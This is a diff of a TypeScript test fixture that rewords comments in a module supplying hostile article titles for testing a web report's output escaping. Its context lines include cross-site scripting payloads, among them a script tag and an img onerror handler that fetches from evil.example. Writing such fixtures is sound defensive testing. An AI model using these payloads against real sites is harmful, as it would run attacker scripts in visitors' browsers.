@@ -1,10 +1,10 @@
-// Articles as no team would write them and some attacker would: what formats must survive stands in titles, names of
-// files, addresses and owners.
+// Articles that no team would write but some attacker might: titles, file names, URLs and owners that formats must
+// handle.
 import type { Owner, ReportedArticle, UnownedArticle } from '../../../src/web/report/report.ts'
 
 const LONG_WORD = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerk'.repeat(6)
 
-/** Titles that are more than text somewhere: HTML, Markdown, spreadsheets, workflow commands, calendars, terminals. */
+/** Titles with a special meaning in HTML, Markdown, spreadsheets, workflow commands, calendars or terminals. */
 export const HOSTILE_TITLES = [
   '<script>document.body.textContent = "owned"</script>',
   `"><img src=x onerror="fetch('//evil.example')"> & 'so' on`,
@@ -24,7 +24,7 @@ export const HOSTILE_TITLES = [
   '',
 ] as const
 
-/** `index` decides title, language, categories and file. */
+/** `index` determines title, language, categories and file. */
 export function sampleArticle(index: number, changes: Partial<ReportedArticle> = {}): ReportedArticle {
   const file = FILES[index % FILES.length]
   return {
@@ -67,7 +67,7 @@ const CATEGORIES: readonly (readonly string[])[] = [
   ['Guides'],
 ]
 
-/** By the index of the article; a person has no e-mail address unless it is asked for. */
+/** By the index of the article. A person has an email address only on request. */
 export function sampleOwners(index: number, showsEmail: boolean): readonly Owner[] {
   const owner = OWNERS[index % OWNERS.length]
   if (owner === undefined) return []
